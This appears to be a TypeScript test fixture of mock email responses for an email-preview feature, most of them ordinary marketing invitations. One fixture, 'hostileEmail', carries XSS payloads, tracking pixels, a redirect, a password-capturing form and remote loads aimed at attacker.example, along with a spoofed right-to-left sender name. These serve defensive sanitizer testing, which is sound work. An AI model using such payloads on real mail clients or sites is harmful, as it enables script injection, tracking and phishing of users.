import type { EmailResponse } from '../endpoint/email-contract.ts';
import { problem, type Answer } from './responses.ts';

/** A request for an email. */
export interface EmailQuery {
  readonly emailId: string;
  readonly signal: AbortSignal;
}

type Email = Omit<EmailResponse, 'id'>;

function email(fields: Email): Answer<EmailQuery> {
  return ({ emailId }) => Response.json({ id: emailId, ...fields });
}

const sender = { fromName: 'Example Events', fromAddress: 'events@example.com' };
const subject = 'You are invited: an evening with our customers';
const preheader = 'Tuesday 8 December, 18:00, on the boat at Quai Branly.';

const links = [
  { url: 'https://example.com/events/evening?source=email', clicks: 61, people: 48 },
  { url: 'https://münchen.example/programm', clicks: 9, people: 9 },
  { url: 'https://example.com/unsubscribe?mkt_unsubscribe=1', clicks: 3, people: 3 },
];

/** An image embedded in the email, which needs no request. */
const image = `data:image/svg+xml,${encodeURIComponent(
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 200"><rect width="600" height="200" fill="#1f4e79"/><circle cx="480" cy="60" r="36" fill="#f2b457"/><path d="M0 160q75-40 150 0t150 0 150 0 150 0v40H0z" fill="#8ab4ff"/></svg>',
)}`;

/** The colors of an email. */
interface Palette {
  readonly page: string;
  readonly card: string;
  readonly text: string;
  readonly button: string;
  readonly buttonText: string;
}

const light: Palette = { page: '#eef1f5', card: '#ffffff', text: '#1b1f27', button: '#1f5fc4', buttonText: '#ffffff' };
const dark: Palette = { page: '#0e1014', card: '#1b2029', text: '#e8eaef', button: '#8ab4ff', buttonText: '#0e1014' };

/** Returns the HTML of a typical marketing email: nested tables, inline styles, fluid width. */
function invitation({ page, card, text, button, buttonText }: Palette, imageUrl = image, more = ''): string {
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width">
<title>${subject}</title>
<style>
  @media (max-width: 480px) { .half { display: block !important; width: 100% !important } }
  a { color: inherit }
</style>
</head>
<body style="margin:0;background:${page}">
<div style="display:none;max-height:0;overflow:hidden">${preheader}</div>
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:${page}"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="width:100%;max-width:600px;background:${card};color:${text};font:16px/1.5 Helvetica,Arial,sans-serif">
<tr><td><img src="${imageUrl}" alt="A boat on the Seine at dusk" width="600" style="display:block;width:100%;height:auto"></td></tr>
<tr><td style="padding:32px 32px 8px"><h1 style="margin:0;font-size:26px;line-height:1.25">An evening with our customers</h1></td></tr>
<tr><td style="padding:0 32px 16px"><p style="margin:0">Three teams show what they changed this year, and what they would do differently. Dinner is on us.</p></td></tr>
<tr><td style="padding:0 32px 24px"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr>
<td class="half" width="50%" valign="top" style="padding:8px 0"><strong>When</strong><br>Tuesday 8 December, 18:00</td>
<td class="half" width="50%" valign="top" style="padding:8px 0"><strong>Where</strong><br>Quai Branly, Paris</td>
</tr></table></td></tr>
<tr><td style="padding:0 32px 32px"><a href="${links[0]?.url ?? ''}" style="display:inline-block;padding:12px 24px;border-radius:4px;background:${button};color:${buttonText};text-decoration:none;font-weight:bold">Keep a place for me</a></td></tr>
${more}
<tr><td style="padding:16px 32px;border-top:1px solid ${page};font-size:13px"><a href="${links[1]?.url ?? ''}">Programme</a> · <a href="${links[2]?.url ?? ''}">Unsubscribe</a></td></tr>
</table></td></tr></table>
</body>
</html>`;
}

const text = `An evening with our customers

Three teams show what they changed this year, and what they would do differently.

Tuesday 8 December, 18:00
Quai Branly, Paris

Keep a place for me: ${links[0]?.url ?? ''}
Unsubscribe: ${links[2]?.url ?? ''}
`;

/** Malicious markup that tries to run scripts, to track the reader and to take over the page. */
const hostileMarkup = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://attacker.example/">
<base href="https://attacker.example/">
<link rel="preconnect" href="https://attacker.example/">
<link rel="stylesheet" href="https://attacker.example/style.css">
<style>@import url(https://attacker.example/import.css); body { background: url(https://attacker.example/background.png) }</style>
<script>top.document.title = 'taken over'</script>
</head><body onload="alert(1)">
<h1>A malicious email</h1>
<p>It looks like any other email. No script runs, and nothing is fetched.</p>
<img src="https://attacker.example/pixel.gif" srcset="https://attacker.example/2x.gif 2x" onerror="alert(1)" alt="A tracking pixel">
<svg width="40" height="40"><use href="https://attacker.example/sprite.svg#a"/><animate attributeName="href" to="javascript:alert(1)"/></svg>
<form action="https://attacker.example/"><input name="password" autofocus><button>Sign in</button></form>
<iframe src="https://attacker.example/"></iframe>
<object data="https://attacker.example/"></object>
<video poster="https://attacker.example/poster.jpg" src="https://attacker.example/video.mp4" autoplay></video>
<p style="position:fixed;inset:0;background:url(https://attacker.example/cover.png)"></p>
<p><a href="javascript:alert(1)">A javascript: link</a> · <a href="https://attacker.example/" ping="https://attacker.example/ping">A link with ping</a></p>
</body></html>`;

const paragraph = `<tr><td style="padding:8px 32px"><p style="margin:0">A line of a very long newsletter, with a <b>bold</b> and an <i>italic</i> word and <a href="https://example.com/read">a link</a>.</p></td></tr>`;

export const realEmail = email({ ...sender, subject, preheader, html: invitation(light), text, links });

export const darkEmail = email({ ...sender, subject, preheader, html: invitation(dark), text, links });

export const plainTextEmail = email({ ...sender, subject, text, links: links.slice(0, 1) });

/** An email that has styles for a dark color scheme. */
export const darkStylesEmail = email({
  ...{ ...sender, subject, preheader, text, links },
  html: invitation(light).replace(
    '</style>',
    `@media (prefers-color-scheme: dark) { body, table { background: ${dark.page} !important }
      table table { background: ${dark.card} !important; color: ${dark.text} !important } }</style>`,
  ),
});

/** The current content of an email, of which only the editable parts are known. */
export const currentEmail = email({
  ...{ ...sender, subject, text, contentVersion: 'current', partial: true },
  html: '<h1>An evening with our customers</h1><p>Three teams show what they changed this year.</p>',
});

/** An email of 2 MB. */
export const hugeEmail: Answer<EmailQuery> = ({ emailId }) =>
  Response.json({
    ...{ id: emailId, ...sender, subject: 'Everything that happened this year', text },
    html: invitation(light, image, paragraph.repeat(Math.ceil(2_000_000 / paragraph.length))),
  });

export const hostileEmail = email({
  fromName: 'Example \u202emoc.elpmaxe',
  fromAddress: '"><img src=x onerror=alert(1)>@attacker.example',
  subject: '<script>alert(1)</script> You have won',
  preheader: 'Open now',
  html: hostileMarkup,
  text: 'A malicious email.',
  links: [
    { url: 'javascript:alert(1)' },
    { url: 'https://attacker.example/' },
    { url: 'https://xn--80ak6aa92e.example/' },
  ],
});

/** An email with remote images. They load only on request. */
export const remoteImagesEmail = email({
  ...{ ...sender, subject, preheader, text, links },
  html: invitation(light, 'https://images.example/evening.jpg'),
});

export const missingEmail = problem(404, 'Not found', 'There is no email with this id.');

export const forbiddenEmail = problem(403, 'Forbidden', 'This email belongs to another team.');

/** An email without HTML and text, which breaks the contract. */
export const brokenEmail = email({ ...sender, subject });
